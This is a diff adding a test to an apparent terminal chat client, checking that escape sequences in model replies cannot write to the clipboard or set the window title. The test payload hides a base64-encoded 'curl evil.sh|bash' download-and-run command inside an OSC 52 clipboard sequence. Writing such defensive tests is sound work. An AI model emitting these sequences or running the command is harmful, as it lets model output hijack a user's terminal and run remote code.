@@ -83,3 +83,19 @@ test("a conversation with a tool call, Escape during an answer, /quit and --cont
     await world.cleanup();
   }
 });
+
+test("text from the model cannot drive the terminal: no clipboard write, title or hyperlink reaches it (issue 26, defect 6)", async () => {
+  const OSC52 = "\u001b]52;c;Y3VybCBldmlsLnNofGJhc2g=\u0007";
+  const TITLE = "\u001b]0;pwned\u0007";
+  const world = await chatWorld((_request, kind) => (kind !== "chat" ? { text: "## Goal\nunused" } : { text: `Here you go ${OSC52}${TITLE} done.` }));
+  try {
+    const chat = world.start();
+    await chat.waitFor(/tokens/);
+    chat.submit("say something");
+    await chat.waitFor(/done\./);
+    assert.doesNotMatch(chat.output, /\u001b\]52;/, "no clipboard write");
+    assert.doesNotMatch(chat.output, /\u001b\]0;pwned/, "no title");
+  } finally {
+    await world.cleanup();
+  }
+});
